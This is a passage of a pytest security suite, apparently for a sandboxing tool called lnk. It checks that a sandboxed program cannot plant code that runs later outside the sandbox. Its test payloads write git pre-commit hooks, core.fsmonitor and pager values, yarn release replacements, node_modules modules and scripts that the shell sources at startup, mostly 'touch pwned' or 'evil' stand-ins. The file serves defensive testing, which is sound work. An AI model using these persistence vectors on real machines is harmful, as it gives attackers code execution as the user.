    git("-C", work, "worktree", "add", "-q", work / "wt")
    before = (work / "wt" / ".git").read_text()
    cp = sh(lnk, "echo 'gitdir: /tmp' > wt/.git; mv wt wt.old; true",
            "--write", work)
    assert (work / "wt" / ".git").read_text() == before, cp.stderr
    assert not (work / "wt.old").exists()


@pytest.mark.parametrize("missing", [False, True])
def test_hooks_path_and_included_config_protected(lnk, work, missing):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: .git/config sets core.hooksPath = .githooks (and includes
    a config from the project): plant a pre-commit hook there, or an
    fsmonitor in the included file."""
    git("init", "-q", work)
    git("-C", work, "config", "core.hooksPath", ".githooks")
    git("-C", work, "config", "include.path", "../project.gitconfig")
    git("-C", work, "config", "includeIf.onbranch:main.path",
        "../conf/branch.gitconfig")
    if not missing:
        (work / ".githooks").mkdir()
        (work / "project.gitconfig").write_text("[user]\n\tname = me\n")
        (work / "conf").mkdir()
        (work / "conf" / "branch.gitconfig").write_text("")
    cp = sh(lnk, """
        mkdir -p .githooks; printf '#!/bin/sh\\ntouch pwned\\n' > .githooks/pre-commit
        echo '[core] fsmonitor = touch pwned' >> project.gitconfig
        mkdir -p conf; echo '[core] fsmonitor = touch pwned' >> conf/branch.gitconfig
        mv conf conf.old; true""", "--write", work)
    assert not (work / ".githooks" / "pre-commit").exists(), cp.stderr
    for f in ("project.gitconfig", "conf/branch.gitconfig"):
        p = work / f
        assert not p.exists() or "fsmonitor" not in p.read_text(), f
    assert not (work / "conf.old").exists()


@pytest.mark.parametrize("hooks_path", [False, True])
@pytest.mark.parametrize("made", [True, False], ids=["made", "missing"])
def test_a_hook_that_links_into_the_project_is_kept(lnk, work, hooks_path,
                                                    made):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the user's hook is a link to a project script
    (.git/hooks/pre-commit -> ../../scripts/pre-commit.sh, the way many
    projects install theirs; or a link in the core.hooksPath folder): the
    link is kept, the script it leads to was not, and the next commit
    outside ran what the program wrote there."""
    git("init", "-q", work)
    if made:
        (work / "scripts").mkdir()
        (work / "scripts" / "pre-commit.sh").write_text(
            "#!/bin/sh\nexit 0\n")
    if hooks_path:
        git("-C", work, "config", "core.hooksPath", ".githooks")
        (work / ".githooks").mkdir()
        (work / ".githooks" / "pre-commit").symlink_to(
            "../scripts/pre-commit.sh")
    else:
        (work / ".git" / "hooks" / "pre-commit").symlink_to(
            "../../scripts/pre-commit.sh")
    cp = sh(lnk, "mkdir -p scripts; "
                 "echo 'touch pwned' >> scripts/pre-commit.sh; "
                 "mv scripts/pre-commit.sh scripts/old; true",
            "--write", work)
    hook = work / "scripts" / "pre-commit.sh"
    assert not hook.exists() or "pwned" not in hook.read_text(), cp.stderr
    assert not (work / "scripts" / "old").exists(), cp.stderr


def test_what_the_worktrees_own_config_names_is_protected(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: with extensions.worktreeConfig, git reads .git/config.worktree
    too: its core.hooksPath and include.path named project files that
    were left writable (the hook ran at the next commit outside)."""
    git("init", "-q", work)
    git("-C", work, "config", "extensions.worktreeConfig", "true")
    git("-C", work, "config", "--worktree", "core.hooksPath", "wthooks")
    git("-C", work, "config", "--worktree", "include.path",
        "../wt.gitconfig")
    (work / "wthooks").mkdir()
    (work / "wt.gitconfig").write_text("[user]\n\tname = me\n")
    cp = sh(lnk, """
        printf '#!/bin/sh\ntouch pwned\n' > wthooks/pre-commit
        echo '[core] fsmonitor = touch pwned' >> wt.gitconfig; true""",
            "--write", work)
    assert not (work / "wthooks" / "pre-commit").exists(), cp.stderr
    assert "fsmonitor" not in (work / "wt.gitconfig").read_text()


def test_yarn_release_protected(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: .yarnrc.yml's yarnPath names .yarn/releases/yarn.cjs, which
    the user's next `yarn` runs: replace it; the install cache stays
    writable."""
    (work / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn.cjs\n")
    (work / ".yarn" / "releases").mkdir(parents=True)
    (work / ".yarn" / "releases" / "yarn.cjs").write_text("// yarn\n")
    cp = sh(lnk, "echo 'evil()' > .yarn/releases/yarn.cjs; "
                 "mv .yarn/releases .yarn/r2; mv .yarn .yarn2; "
                 "mkdir -p .yarn/plugins && echo x > .yarn/plugins/p.cjs; "
                 "mkdir -p .yarn/cache && echo ok > .yarn/cache/a.zip; true",
            "--write", work)
    assert (work / ".yarn/releases/yarn.cjs").read_text() == "// yarn\n", \
        cp.stderr
    assert not (work / ".yarn/plugins").exists()
    assert not (work / ".yarn2").exists()
    assert (work / ".yarn/cache/a.zip").read_text() == "ok\n"


# key = value written into the user's ~/.gitconfig, and the file of the
# project (a write folder) the value names.
GIT_KEYS = [
    ("init", "templateDir", "~/project/tmpl", "tmpl/hooks/post-checkout"),
    ("core", "pager", "~/project/tools/pager -R", "tools/pager"),
    ("core", "editor", "'{work}/tools/editor'", "tools/editor"),
    ("core", "sshCommand", "{work}/tools/ssh -o x=y", "tools/ssh"),
    ("core", "fsmonitor", "{work}/fsmon", "fsmon"),
    ("credential", "helper", "!sh ~/project/cred.sh get", "cred.sh"),
    ("diff", "external", "{work}/tools/diff", "tools/diff"),
    ("gpg", "program", "{work}/tools/gpg", "tools/gpg"),
    ("sequence", "editor", "{work}/tools/seq", "tools/seq"),
    ('filter "x"', "clean", "{work}/tools/clean %f", "tools/clean"),
    ('filter "x"', "process", "{work}/tools/proc", "tools/proc"),
    ('merge "x"', "driver", "{work}/tools/merge %O %A %B", "tools/merge"),
    ('alias', "st", "!{work}/tools/st", "tools/st"),
]


def planted_and_kept(lnk, work, value, target, existing):
    """The program plants target (appends to it when it exists, as the
    user's) and moves value away; neither may succeed: target stays as it
    was (or missing) and nothing is moved."""
    t = work / target
    if existing:
        t.parent.mkdir(parents=True, exist_ok=True)
        t.write_text("# mine\n")
    cp = sh_to_the_end(lnk, f"cd '{work}' && "
                       f"mkdir -p {os.path.dirname(target) or '.'}; "
                       f"echo 'touch ~/pwned' >> {target}; "
                       f"mv {value} moved; true", "--write", work)
    assert not (work / "moved").exists(), cp.stderr
    if existing:
        assert t.read_text() == "# mine\n", cp.stderr
    else:
        assert not t.exists(), cp.stderr


@pytest.mark.parametrize("existing", [False, True])
@pytest.mark.parametrize("section,key,value,target", GIT_KEYS,
                         ids=[f"{s.split()[0]}.{k}" for s, k, _, _ in
                              GIT_KEYS])
def test_git_config_programs_in_a_write_folder_protected(
        lnk, home, work, section, key, value, target, existing):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the user's ~/.gitconfig names a program or a folder inside the
    project (init.templateDir, core.pager, core.sshCommand,
    credential.helper, a filter or merge driver, ...): the program writes
    it, and the user's next git runs it outside, as the user."""
    (home / ".gitconfig").write_text(
        f"[{section}]\n\t{key} = {value.format(work=work)}\n")
    planted_and_kept(lnk, work, target.split('/')[0], target, existing)


# Keys of git-config(1) (and git-archive(1)) whose value git runs, missing
# from rule C's table: written into the user's ~/.gitconfig, naming a
# program in the project (a write folder).
MORE_GIT_KEYS = [
    ("core", "alternateRefsCommand", "{work}/tools/refs", "tools/refs"),
    ('guitool "lint"', "cmd", "{work}/tools/lint", "tools/lint"),
    ("imap", "tunnel", "{work}/tools/tunnel --x", "tools/tunnel"),
    ('tar "tar.xz"', "command", "{work}/tools/xz -c", "tools/xz"),
    ("instaweb", "httpd", "{work}/tools/httpd", "tools/httpd"),
    ("instaweb", "browser", "{work}/tools/browser", "tools/browser"),
    ('trailer "x"', "command", "{work}/tools/t", "tools/t"),
    ('trailer "s"', "cmd", "{work}/tools/ts", "tools/ts"),
    ("svn", "authorsProg", "{work}/tools/authors", "tools/authors"),
    ('lfs "customtransfer.my"', "path", "{work}/tools/lfs", "tools/lfs"),
    ("http", "sslCAInfo", "{work}/tools/ca.pem", "tools/ca.pem"),
]


@pytest.mark.parametrize("section,key,value,target", MORE_GIT_KEYS,
                         ids=[f"{s.split()[0]}.{k}" for s, k, _, _ in
                              MORE_GIT_KEYS])
def test_more_git_keys_that_run_programs_protected(lnk, home, work, section,
                                                   key, value, target):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat (rule C): the user's ~/.gitconfig names a program inside the
    project under a key the table did not know (git gui's Tools menu, git
    imap-send's tunnel, git archive's compressor, the alternates' refs
    command, git instaweb's server and browser): the program writes it,
    and the user's next such git runs it outside, as the user."""
    (home / ".gitconfig").write_text(
        f"[{section}]\n\t{key} = {value.format(work=work)}\n")
    t = work / target
    cp = sh_to_the_end(
        lnk, f"mkdir -p {os.path.dirname(target) or '.'}; "
        f"echo 'touch ~/pwned' >> {target}; true", "--write", work)
    assert not t.exists(), cp.stderr


# A relative value in the user's own git config: git takes it from the top
# of the working tree it runs in (githooks(5); a `!` alias and the commands
# git starts run there too), so it names a file in every project the user
# runs git in. Key, value, the file it names from the top of the project.
RELATIVE_GIT_KEYS = [
    ("core", "hooksPath", ".githooks", ".githooks/pre-commit"),
    ("core", "hooksPath", "scripts/hooks", "scripts/hooks/pre-commit"),
    ("alias", "t", "!tools/t.sh --x", "tools/t.sh"),
    ("core", "fsmonitor", "tools/fsmon", "tools/fsmon"),
]


@pytest.mark.parametrize("repo", [True, False], ids=["repository",
                                                     "not-yet"])
@pytest.mark.parametrize("section,key,value,target", RELATIVE_GIT_KEYS,
                         ids=[f"{s}.{k}={v.split()[0]}" for s, k, v, _ in
                              RELATIVE_GIT_KEYS])
def test_relative_path_of_the_users_git_config_protected(
        lnk, home, work, section, key, value, target, repo):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the user's ~/.gitconfig sets `core.hooksPath = .githooks` (a
    common setup: every project's own hooks folder); git takes a relative
    value from the top of the working tree it runs in, so in a project
    that is a write folder it names <project>/.githooks. The program
    plants a pre-commit hook there (no dot file of the list: nothing kept
    it), and the user's next commit outside runs it, as the user. The
    same for a project that becomes a repository later (git init)."""
    (home / ".gitconfig").write_text(f"[{section}]\n\t{key} = {value}\n")
    if repo:
        git("init", "-q", work)
    top = target.split("/")[0]
    cp = sh_to_the_end(lnk, f"mkdir -p {os.path.dirname(target)}; "
                       f"printf '#!/bin/sh\\ntouch ~/pwned\\n' > {target}; "
                       f"mv {top} moved; true", "--write", work)
    assert not (work / target).exists(), cp.stderr
    assert not (work / "moved").exists(), cp.stderr


def test_relative_hooks_path_of_the_users_config_in_an_enclosing_repository(
        lnk, home, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the write folder is a subfolder (lib) of a repository; the
    user's ~/.gitconfig sets `core.hooksPath = lib/hooks`, relative to the
    repository's top: the folder it names lies in the write folder."""
    (home / ".gitconfig").write_text("[core]\n\thooksPath = lib/hooks\n")
    git("init", "-q", work)
    (work / "lib").mkdir()
    cp = sh_to_the_end(lnk, "mkdir -p hooks; echo evil > hooks/pre-commit; "
                       "true", "--write", work / "lib", cwd=work / "lib")
    assert not (work / "lib" / "hooks" / "pre-commit").exists(), cp.stderr


@pytest.mark.parametrize("spelling", ["$HOME", "${HOME}", "$PROJECTS"])
def test_git_command_spelled_with_a_variable_protected(lnk, home, work,
                                                      spelling):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: git runs a command-valued key (core.pager, a `!` alias,
    credential.helper) through the shell, which expands $HOME and the
    user's other variables: `core.pager = $HOME/project/tools/pager`
    names a file of the write folder as surely as `~/project/...` does.
    The program rewrites it, and the next paged git outside runs it."""
    base = spelling + "/"
    (home / ".gitconfig").write_text(
        f"[core]\n\tpager = {base}project/tools/pager -R\n"
        f"[alias]\n\tlg = \"!{base}project/tools/lg.sh\"\n")
    cp = sh_to_the_end(lnk, "mkdir -p tools; echo evil > tools/pager; "
                       "echo evil > tools/lg.sh; true", "--write", work,
                       env={"PROJECTS": str(home)})
    assert not (work / "tools" / "pager").exists(), cp.stderr
    assert not (work / "tools" / "lg.sh").exists(), cp.stderr


# ~/.gitconfig's text, as a person writes it, naming a file of the project
# (a write folder, {work}; {home} the home) by another spelling: the
# shell's quotes and forms, git's own line syntax. The file it names.
GIT_SPELLINGS = [
    ("quoted-var", '[alias]\n\ta = "!\\"$HOME\\"/project/a"\n', "a"),
    ("quoted-tail", '[alias]\n\tb = "!$HOME/\\"project/b\\""\n', "b"),
    ("var-op", '[alias]\n\tc = "!${{HOME%/}}/project/c"\n', "c"),
    ("substitution",
     '[alias]\n\td = "!\\"$(git rev-parse --show-toplevel)\\"/d"\n', "d"),
    ("sh-script", '[alias]\n\te = !sh e.sh\n', "e.sh"),
    ("space", '[alias]\n\tf = "!\\"{work}/my tools/f\\""\n', "my tools/f"),
    ("pwd", '[alias]\n\tg = !$PWD/tools/g\n', "tools/g"),
    ("glued-option", "[core]\n\tsshCommand = ssh -F{work}/sshcfg\n",
     "sshcfg"),
    ("crlf", "[core]\r\n\thooksPath = .githooks\r\n", ".githooks/x"),
    ("bom", "\ufeff[core]\n\thooksPath = .githooks\n", ".githooks/x"),
    ("continued", "[core]\n\thooksPath = \\\n.githooks\n", ".githooks/x"),
]


@pytest.mark.parametrize("text,target", [(t, f) for _, t, f in GIT_SPELLINGS],
                         ids=[i for i, _, _ in GIT_SPELLINGS])
def test_git_config_spellings_protected(lnk, home, work, text, target):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the user's ~/.gitconfig names a file of the project by a
    spelling rule C read otherwise than git and its shell do: a quoted
    $HOME, a ${HOME%/} form, a command substitution, a script given to sh
    by its bare name (git runs `!` aliases at the top), a path with a
    space, $PWD, an option glued to its path (ssh -F/path), a file with
    CRLF line ends, a byte-order mark, or a value continued on the next
    line. The program writes it; the user's next git runs it."""
    (home / ".gitconfig").write_text(text.format(work=work, home=home))
    git("init", "-q", work)
    d = os.path.dirname(target)
    cp = sh_to_the_end(lnk, (f"mkdir -p '{d}'; " if d else "") +
                       f"echo evil > '{target}'; true", "--write", work)
    assert not (work / target).exists(), cp.stderr


def test_linked_gitconfig_includes_beside_the_link(lnk, home, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: ~/.gitconfig is a link into a dotfiles folder (GNU stow) and
    includes `.gitconfig.local`, which git finds beside the link, in the
    home (a machine's own settings, kept out of the dotfiles): that file
    names a hooks folder in the project."""
    (home / "dotfiles").mkdir()
    (home / "dotfiles" / "gitconfig").write_text(
        "[include]\n\tpath = .gitconfig.local\n")
    (home / ".gitconfig").symlink_to("dotfiles/gitconfig")
    (home / ".gitconfig.local").write_text(
        "[core]\n\thooksPath = ~/project/hooks\n")
    cp = sh_to_the_end(lnk, "mkdir -p hooks; echo evil > hooks/pre-commit; "
                       "true", "--write", work)
    assert not (work / "hooks" / "pre-commit").exists(), cp.stderr


@pytest.mark.parametrize("how", ["count", "bash-env"])
def test_environment_spellings_protected(lnk, work, how):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: the user's environment gives git a config of its own
    (GIT_CONFIG_COUNT, GIT_CONFIG_KEY_0, GIT_CONFIG_VALUE_0 =
    core.hooksPath in the project), or names BASH_ENV as `$HOME/...`,
    which bash expands: the program writes the file, the next git or
    bash outside runs it."""
    git("init", "-q", work)
    if how == "count":
        env = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.hooksPath",
               "GIT_CONFIG_VALUE_0": f"{work}/hooks"}
        target = "hooks/pre-commit"
    else:
        env = {"BASH_ENV": "$HOME/project/env.sh"}
        target = "env.sh"
    d = os.path.dirname(target)
    cp = sh_to_the_end(lnk, (f"mkdir -p {d}; " if d else "") +
                       f"echo evil > {target}; true", "--write", work, env=env)
    assert not (work / target).exists(), cp.stderr


def test_relative_word_of_an_environment_command_runs(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: none to the user; a command the environment names (EDITOR)
    with a relative word (`vim -u conf/vimrc`) is no path rule E can
    place, and reading it crashed lnk before any sandbox started. The run
    goes on, and a glued option's path (ssh -F/path) is still read."""
    cp = lnk.run("--write", work, "--", "true",
                 env={"EDITOR": "vim -u conf/vimrc",
                      "GIT_SSH_COMMAND": f"ssh -F{work}/sshcfg"})
    assert cp.returncode == 0, cp.stderr


def test_git_command_naming_a_path_of_thousands_of_folders_runs(lnk, home,
                                                               work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: none to the user; a value naming a path of 5000 folders (a
    quoted word, read whole) was walked a folder a frame, and lnk died
    of a stack overflow before any sandbox started. No path that long
    can be opened (ENAMETOOLONG): the run goes on."""
    (home / ".gitconfig").write_text(
        '[alias]\n\tx = "!\\"' + "x/" * 5000 + '"\n')
    cp = lnk.run("--write", work, "--", "true")
    assert cp.returncode == 0, cp.stderr


def test_home_itself_never_made_a_repository(tmp_path):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: a write folder holds the home (its parent): HEAD, objects,
    refs and config made at the home's top (no dot names) make the home
    a bare-style repository with a worktree, which git takes from ~ and
    from every folder of the home without a repository of its own."""
    top = tmp_path / "top"
    home = top / "home"
    (home / ".config" / "nvim").mkdir(parents=True)
    lnk = Lnk(home, home)
    cp = sh_to_the_end(lnk, "cd ~ && mkdir -p objects refs/heads && "
                       "echo 'ref: refs/heads/main' > HEAD; "
                       "echo '[core]' > config; true", "--write", top)
    assert not (home / "HEAD").exists(), cp.stderr


def test_git_config_the_environment_names_is_read_for_programs(lnk, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: GIT_CONFIG_GLOBAL (outside the project) names a pager in the
    project: rule C reads the config the environment names, not only
    ~/.gitconfig."""
    cfg = work.parent / "my.gitconfig"
    cfg.write_text(f"[core]\n\tpager = {work}/tools/pager\n")
    cp = sh_to_the_end(lnk, "mkdir -p tools; echo evil > tools/pager; true",
            "--write", work, env={"GIT_CONFIG_GLOBAL": str(cfg)})
    assert not (work / "tools" / "pager").exists(), cp.stderr


def test_git_command_naming_thousands_of_paths_refused(lnk, home, work):
    """Invariant 8 (what runs outside later), promise: git's directories, every
    repository the top one knows, and what a config names are kept.

    Threat: a config the user did not write (an include they took from
    a project) gives a command of thousands of path words, each walked at
    every start: past a bound, the run is refused with a clear message,
    never a crawl."""
    words = " ".join(f"{work}/w{i}" for i in range(5000))
    (home / ".gitconfig").write_text(f"[core]\n\tpager = less {words}\n")
    cp = lnk.run("--write", work, "--", "/bin/true")
    assert cp.returncode != 0, cp.stderr
    assert "more than 64 paths" in cp.stderr, cp.stderr


# =============================================================================
# C. The home folder's top, its module folders and link targets
#    Promise: the home folder's top, its module folders and the targets of
#    protected links are kept.
# =============================================================================


HOME_NEW_NAMES = [".bash_aliases", ".vim", ".xsessionrc", ".xsession",
                  ".xinitrc", ".psqlrc", ".sqliterc", ".irbrc", ".ghci",
                  ".netrc", ".forward", ".muttrc", ".screenrc",
                  ".not-yet-invented-rc", "bin",
                  # listed names without a dot, which tools look up
                  # through every folder above the one they run in
                  "_vimrc", "rust-toolchain.toml", "mise.toml"]


@pytest.mark.parametrize("holds", [False, True])
@pytest.mark.parametrize("name", HOME_NEW_NAMES)
def test_home_top_keeps_every_dot_name(lnk, home, name, holds):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: --write '~' (or a folder holding it) plants ~/.bash_aliases
    (sourced by Debian's .bashrc), ~/.vim/plugin/x.vim, ~/bin/ls (on PATH
    through Debian's .profile): no list of names is complete."""
    grant = home.parent if holds else home
    cp = sh(lnk, f"mkdir -p ~/{name}/plugin 2>/dev/null || "
                 f"echo evil > ~/{name}", "--write", grant)
    assert not (home / name).exists(), cp.stderr


def test_home_existing_dot_names_read_only(lnk, home):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: append to an existing ~/.bash_aliases, or move it away and
    put another in its place."""
    f = home / ".bash_aliases"
    f.write_text("alias ll='ls -l'\n")
    (home / ".vim" / "plugin").mkdir(parents=True)
    cp = sh(lnk, "echo 'touch ~/pwned' >> ~/.bash_aliases; "
                 "echo x > ~/.vim/plugin/x.vim; mv ~/.vim ~/vim.old; "
                 "mv ~/.bash_aliases ~/ba; true", "--write", home)
    assert f.read_text() == "alias ll='ls -l'\n", cp.stderr
    assert not (home / ".vim" / "plugin" / "x.vim").exists()
    assert not (home / "vim.old").exists() and not (home / "ba").exists()


# Lines installers add to the shell's startup files (rc, its line, the file
# under the home they make the shell source or run at every start).
RC_NAMED = [
    (".bashrc", "if [ -f '{H}/google-cloud-sdk/path.bash.inc' ]; then "
     ". '{H}/google-cloud-sdk/path.bash.inc'; fi",
     "google-cloud-sdk/path.bash.inc"),
    (".bashrc", '__conda_setup="$(\'{H}/miniconda3/bin/conda\' '
     '\'shell.bash\' \'hook\' 2> /dev/null)"', "miniconda3/bin/conda"),
    (".bashrc", '    . "{H}/miniconda3/etc/profile.d/conda.sh"',
     "miniconda3/etc/profile.d/conda.sh"),
    (".bashrc", "source ~/emsdk/emsdk_env.sh", "emsdk/emsdk_env.sh"),
    (".profile", '[ -s "$HOME/tools/env.sh" ] && \\. "$HOME/tools/env.sh"',
     "tools/env.sh"),
    (".zshrc", "source ~/zsh-plugins/x/x.plugin.zsh",
     "zsh-plugins/x/x.plugin.zsh"),
    # Fedora's .bashrc reads a folder of snippets this way
    (".bashrc", 'for f in ~/rc.d/*.sh; do . "$f"; done', "rc.d/new.sh"),
    (".bashrc", "PROMPT_COMMAND='~/pc/prompt'", "pc/prompt"),
    (".bashrc", "PS1='$(~/ps/ps1) $ '", "ps/ps1"),
    (".bashrc", "alias ll='~/al/ll -l'", "al/ll"),
    (".bashrc", "trap '~/tr/onexit' EXIT", "tr/onexit"),
    (".bashrc", "env FOO=1 ~/en/prog", "en/prog"),
    (".bashrc", "source ${HOME}/br/x.sh", "br/x.sh"),
    (".bashrc", "source \\\n  ~/co/cont.sh", "co/cont.sh"),
    # a variable the file sets itself names the folder it sources from
    (".bashrc", "DOTFILES=~/dots\nsource $DOTFILES/aliases.sh",
     "dots/aliases.sh"),
    (".bashrc", 'export ZSH_CUSTOM="$HOME/zc"\n. "${ZSH_CUSTOM}/x.sh"',
     "zc/x.sh"),
    (".bashrc", 'eval "$(cat ~/ev/init.sh)"', "ev/init.sh"),
    (".bashrc", "P=~/pp\nX=$P/x.sh\nsource $X", "pp/x.sh"),
    (".bashrc", "readonly RO=~/ro\n. $RO/r.sh", "ro/r.sh"),
    (".bashrc", "declare -x DX=~/dx\n. $DX/d.sh", "dx/d.sh"),
    (".bashrc", ": ${DV:=~/dv}\n. $DV/d.sh", "dv/d.sh"),
    (".bashrc", "DW=${DW:-~/dw}\n. $DW/d.sh", "dw/d.sh"),
    (".bashrc", "DS=~/ds\nDS=$DS\n. $DS/d.sh", "ds/d.sh"),
    (".bashrc", "DL=~/dl\nfor f in a b; do . $DL/$f; done", "dl/a"),
    (".bashrc", "bash ~/bs/x.sh", "bs/x.sh"),
    (".bashrc", "sh -e ~/sh/y.sh", "sh/y.sh"),
    (".bashrc", "python3 ~/py/start.py", "py/start.py"),
    # the home by its variable, in a loop's wildcard, a find or a cat
    (".bashrc", 'for g in $HOME/hw/*.sh; do . "$g"; done', "hw/z.sh"),
    (".bashrc", 'for g in "$HOME"/hq/*.sh; do . "$g"; done', "hq/z.sh"),
    (".bashrc", 'for g in ${HOME}/hb/*.sh; do . "$g"; done', "hb/z.sh"),
    (".bashrc", "for f in $(find ~/fd -name '*.sh'); do . \"$f\"; done",
     "fd/sub/z.sh"),
    (".bashrc", 'eval "$(cat $HOME/hc/*.sh)"', "hc/z.sh"),
    # a function's argument, braces, a variable inside a name, --, a
    # default, bind -x and complete -C, a variable of rule E set there
    (".bashrc", 'load() { . "$1"; }\nload ~/fa/aliases.sh', "fa/aliases.sh"),
    (".bashrc", "for f in $HOME/br2/{a,b}.sh; do . $f; done", "br2/a.sh"),
    (".bashrc", ". ~/vm/local-$USER.sh", "vm/local-x.sh"),
    (".bashrc", "source -- ~/dd/x.sh", "dd/x.sh"),
    (".zshrc", "source ${ZDOTDIR:-$HOME}/zd/x.zsh", "zd/x.zsh"),
    (".bashrc", "bind -x '\"\\C-t\": ~/bx/widget'", "bx/widget"),
    (".bashrc", "complete -C ~/cc/comp mycmd", "cc/comp"),
    (".bashrc", "export EDITOR=~/ed/ed", "ed/ed"),
    # PATH set there: its folders are on PATH at the next login
    (".bashrc", 'if [ -d "$HOME/go/bin" ]; then PATH="$HOME/go/bin:$PATH"; '
     'fi', "go/bin/ls"),
    (".profile", 'export PATH="$HOME/.cargo2/bin:$HOME/pb:$PATH"', "pb/ls"),
    # fish
    (".config/fish/config.fish", "for f in ~/fishd/*.fish; source $f; end",
     "fishd/x.fish"),
    (".config/fish/config.fish", "source ~/f2/x.fish", "f2/x.fish"),
    (".config/fish/config.fish", "fish_add_path ~/f3/bin", "f3/bin/ls"),
    (".config/fish/config.fish", "set -gx PATH ~/f4/bin $PATH", "f4/bin/ls"),
    (".config/fish/conf.d/x.fish", "source ~/f5/y.fish", "f5/y.fish"),
    # appends, the CUDA idiom, trap --, a prompt's append idiom, a
    # command inside a name, eval, zsh's arrays, fish's and
    (".bashrc", 'PATH+=":$HOME/pa/bin"', "pa/bin/ls"),
    (".bashrc", "export PATH=~/cu/bin${PATH:+:${PATH}}", "cu/bin/ls"),
    (".bashrc", "trap -- '~/tq/x' EXIT", "tq/x"),
    (".bashrc", 'PROMPT_COMMAND="${PROMPT_COMMAND:+$PROMPT_COMMAND;}~/pp2/pc"',
     "pp2/pc"),
    (".bashrc", ". ~/hn/local-$(hostname).sh", "hn/local-x.sh"),
    (".bashrc", 'eval ". ~/ev2/a.sh"', "ev2/a.sh"),
    (".zshrc", "path=(~/za/bin ~/zb/bin $path)", "zb/bin/ls"),
    (".zshrc", "fpath=(~/fa2/zf ~/fb/zf $fpath)", "fb/zf/_x"),
    (".config/fish/config.fish", "test -d ~/fd2/bin; and set -gx PATH "
     "~/fd2/bin $PATH", "fd2/bin/ls"),
    (".bashrc", 'export EDITOR="vim -u ~/ea/init.vim"', "ea/init.vim"),
]


@pytest.mark.parametrize("existing", [False, True])
@pytest.mark.parametrize("rc,line,target", RC_NAMED,
                         ids=[t for _, _, t in RC_NAMED])
def test_what_the_shells_startup_files_source_is_kept(lnk, home, rc, line,
                                                      target, existing):
    """Invariant 8 (what runs outside later), promise: the home folder's
    top and what runs from it are kept.

    Threat: under --write '~' the .bashrc is read only, but the files it
    sources or runs at every start are not dot names:
    ~/google-cloud-sdk/path.bash.inc, conda's conda.sh and its conda
    (run in $(...) by the init block), emsdk_env.sh. The program appended
    to one, and the user's next shell ran it."""
    (home / rc).parent.mkdir(parents=True, exist_ok=True)
    (home / rc).write_text(line.replace("{H}", str(home)) + "\n")
    planted_and_kept(lnk, home, target.split("/")[0], target, existing)


HOME_MODULE_FOLDERS = ["node_modules", "perl5", "R"]


@pytest.mark.parametrize("name", HOME_MODULE_FOLDERS + ["bin"])
def test_a_home_module_folder_that_is_a_link_is_kept(lnk, home, tmp_path,
                                                    name):
    """Invariant 8 (what runs outside later), promise: the home folder's
    module folders are kept, judged by what they are.

    Threat: ~/node_modules (or ~/perl5, ~/R) is a link into a folder the
    program may write (a downloads or data folder); node loads from it
    any module a script under the home does not supply itself. The
    program planted lodash there, unflagged, with no write grant of the
    home at all."""
    dl = tmp_path / "dl"
    (dl / "nm").mkdir(parents=True)
    (home / name).symlink_to(dl / "nm")
    cp = sh_to_the_end(lnk, f"cd '{dl}' && mkdir -p nm/lodash; "
                       "echo evil > nm/lodash/index.js; mv nm moved; true",
                       "--write", dl)
    assert not (dl / "nm" / "lodash" / "index.js").exists(), cp.stderr
    assert not (dl / "moved").exists(), cp.stderr


@pytest.mark.parametrize("holds", [False, True])
@pytest.mark.parametrize("name", HOME_MODULE_FOLDERS)
def test_home_module_folders_not_planted(lnk, home, name, holds):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: with --write ~ (or a folder holding it), the program makes
    ~/node_modules/fs/index.js: node loads it for any script under the home
    that does not supply its own module; likewise local::lib's ~/perl5 and
    R's user library ~/R."""
    grant = home.parent if holds else home
    cp = sh_to_the_end(lnk, f"mkdir -p ~/{name}/fs && echo evil > ~/{name}/fs/index.js;"
                 " true", "--write", grant)
    assert not (home / name).exists(), cp.stderr
    (home / name).mkdir()
    cp = sh_to_the_end(lnk, f"mkdir -p ~/{name}/fs; mv ~/{name} ~/moved; true",
            "--write", grant)
    assert not (home / name / "fs").exists(), cp.stderr
    assert not (home / "moved").exists(), cp.stderr


def test_node_modules_above_the_home_not_planted(lnk, home):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

    Threat: --write of a folder that holds the home (/home): node looks
    for node_modules in every folder above a script, so a node_modules
    made beside the home is loaded by scripts under it."""
    cp = sh_to_the_end(lnk, f"mkdir -p '{home.parent}/node_modules/fs'; true",
            "--write", home.parent)
    assert not (home.parent / "node_modules").exists(), cp.stderr


@pytest.mark.parametrize("depth", [1, 2])
def test_no_repository_or_settings_above_the_home(tmp_path, depth):
    """Invariant 8 (what runs outside later), promise: the home folder's top,
    its module folders and the targets of protected links are kept.

